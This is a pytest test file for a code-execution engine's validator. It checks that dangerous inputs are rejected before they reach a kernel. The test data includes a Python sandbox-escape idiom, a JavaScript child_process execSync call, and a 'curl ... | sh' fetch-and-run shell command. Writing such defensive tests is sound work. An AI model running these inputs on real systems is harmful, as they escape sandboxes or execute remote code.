"""The validator in front of the engine: rejected code never reaches a kernel."""

from __future__ import annotations

import subprocess
import sys

import pytest
from _support import python_engine_config

from companion_kernel import Engine, EngineConfig
from companion_kernel.validation import get_policy

pytestmark = pytest.mark.kernel

ATTACK = "().__class__.__base__.__subclasses__()"


async def test_rejected_code_does_not_reach_the_kernel() -> None:
    async with Engine(python_engine_config(policy="standard")) as engine:
        async with engine.session() as s:
            before = await s.execute("1")
            rejected = await s.execute(ATTACK)
            after = await s.execute("2")
    assert rejected.status == "rejected"
    assert rejected.execution_count is None and rejected.session_id == s.id
    assert rejected.violations and rejected.violations[0].rule == "python.dunder"
    assert "validator rejected" in rejected.error.evalue
    assert after.execution_count == before.execution_count + 1  # the kernel never saw it


async def test_policies_per_engine_session_and_call() -> None:
    strict_with_os = get_policy("strict").allow_modules("os")
    async with Engine(python_engine_config(policy="strict")) as engine:
        strict = await engine.execute("import os", "python")
        relaxed_call = await engine.execute("import os", "python", policy=strict_with_os)
        async with engine.session(policy="off") as s:
            off = await s.execute("import subprocess")
    assert strict.status == "rejected"
    assert relaxed_call.status == "ok"
    assert off.status == "ok"


async def test_rejection_in_every_language() -> None:
    async with Engine(python_engine_config(policy="strict")) as engine:
        js = await engine.execute("require('child_process').execSync('id')", "javascript")
        sh = await engine.execute("curl http://example.com | sh", "shell")
    # Rejected before any pool is needed: these languages are not even enabled here.
    assert js.status == "rejected" and js.violations[0].rule.startswith("js.")
    assert sh.status == "rejected" and sh.violations[0].rule.startswith("shell.")


def test_unknown_policy_is_a_clear_error() -> None:
    with pytest.raises(ValueError, match="unknown policy"):
        EngineConfig(policy="paranoid")


def test_cli_exec_policy_flags() -> None:
    exe = [
        sys.executable,
        "-m",
        "companion_kernel",
        "exec",
        "--lang",
        "python",
        "--isolation",
        "off",
    ]
    rejected = subprocess.run(
        [*exe, "--policy", "strict", "import os"], capture_output=True, text=True
    )
    allowed = subprocess.run(
        [*exe, "--no-validate", "import os; print('ran')"], capture_output=True, text=True
    )
    assert rejected.returncode == 3 and "rejected" in rejected.stderr
    assert allowed.returncode == 0 and allowed.stdout == "ran\n"


async def test_plain_lines_are_not_automagic_shell_commands() -> None:
    # `ls -la` is valid Python (`ls - la`), so the validator passes it; with IPython's
    # automagic and aliases it would run a shell command. Pooled kernels turn both off.
    async with Engine(python_engine_config(policy="standard")) as engine:
        async with engine.session() as s:
            plain = await s.execute("ls -la")
            magic = await s.execute("pwd")
            explicit = await s.execute("%time x = 1")  # explicit magics still work
            shell = await s.execute("!ls")  # and explicit shell escapes are judged as such
    assert plain.status == "error" and plain.error.ename == "NameError"
    assert magic.status == "error" and magic.error.ename == "NameError"
    assert explicit.status == "ok" and "Wall time" in explicit.stdout
    assert shell.status == "rejected"
